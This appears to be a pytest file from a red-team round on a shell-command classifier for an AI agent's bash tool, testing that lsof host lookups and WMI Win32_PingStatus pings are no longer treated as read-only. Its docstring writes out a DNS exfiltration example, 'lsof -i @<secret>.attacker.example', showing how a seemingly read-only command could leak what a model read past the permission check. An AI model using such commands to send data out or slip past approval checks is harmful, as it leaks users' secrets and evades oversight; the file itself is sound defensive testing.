"""Red team, round 15 (classifier): read-only commands that resolve a host name the command gives.

``lsof`` was free-form read-only. ``lsof -i @HOST`` (also ``-i TCP@HOST:80``, ``-i4@HOST``) looks
HOST up in DNS: a query carrying any label the command chooses leaves the machine, so a read-only
command, run unasked in default mode, could send what the model read (``lsof -i
@<secret>.attacker.example``) to a name server the attacker watches. An ``@`` in lsof's arguments
now makes the part not read-only. PowerShell's ``Get-WmiObject``/``Get-CimInstance`` of
``Win32_PingStatus`` pings (and resolves) the address its filter names: any mention of that class
is not read-only either, nor is a class or query not written out (analysis only: no Windows here).
"""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from shellrt.analysis import analyze
from shellrt.analysis.powershell import analyze_powershell
from tests._governance import envelope_text, isolated_workspace, run_bash

pytestmark = pytest.mark.anyio

_HOST = "r15-canary.example.invalid"


@pytest.mark.parametrize(
    "command",
    [f"lsof -i @{_HOST}", f"lsof -i TCP@{_HOST}:80", f"lsof -i4@{_HOST}", f"lsof -n -i 6@{_HOST}", f"lsof -a -i@{_HOST}"],
)
def test_a_host_lookup_is_not_read_only(command: str) -> None:
    analysis = analyze(command)
    assert not analysis.read_only, (command, analysis.reasons)


@pytest.mark.parametrize("command", ["lsof", "lsof -i", "lsof -n -i :80", "lsof -p 1", "lsof +D ."])
def test_other_listings_stay_read_only(command: str) -> None:
    assert analyze(command).read_only, command


@pytest.mark.parametrize(
    "command",
    [
        "Get-WmiObject -Class Win32_PingStatus -Filter \"Address='x.example'\"",
        "gwmi Win32_PingStatus -Filter \"Address='x.example'\"",
        "Get-CimInstance -Query \"SELECT * FROM win32_pingstatus WHERE Address='x.example'\"",
        "Get-CimInstance -ClassName 'Win32_PingStatus'",
        "Get-CimInstance -ClassName $class",
        'Get-WmiObject -Query "SELECT * FROM $class"',
    ],
)
def test_wmi_ping_is_not_read_only(command: str) -> None:
    analysis = analyze_powershell(command)
    assert not analysis.read_only, (command, analysis.reasons)


def test_wmi_reads_stay_read_only() -> None:
    assert analyze_powershell("Get-CimInstance -ClassName Win32_OperatingSystem").read_only


def test_lsof_sends_the_name_to_the_resolver(tmp_path: Path) -> None:
    lsof, strace = shutil.which("lsof"), shutil.which("strace")
    if lsof is None or strace is None:
        pytest.skip("lsof and strace are needed to watch the query")
    out = subprocess.run(
        [strace, "-f", "-e", "trace=sendto,sendmmsg,write", "-s", "128", lsof, "-i", f"@{_HOST}"],
        cwd=tmp_path, capture_output=True, text=True, timeout=60,
    )
    assert "r15-canary" in out.stderr, out.stderr[-2000:]


async def test_the_bash_tool_asks(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    if shutil.which("lsof") is None:
        pytest.skip("lsof is not installed")
    ws = isolated_workspace(tmp_path, monkeypatch)
    [envelope] = await run_bash(ws, [f"lsof -i @{_HOST}"], mode="default", id_prefix="r15dns")
    assert envelope.is_error and "not granted" in envelope_text(envelope), envelope_text(envelope)
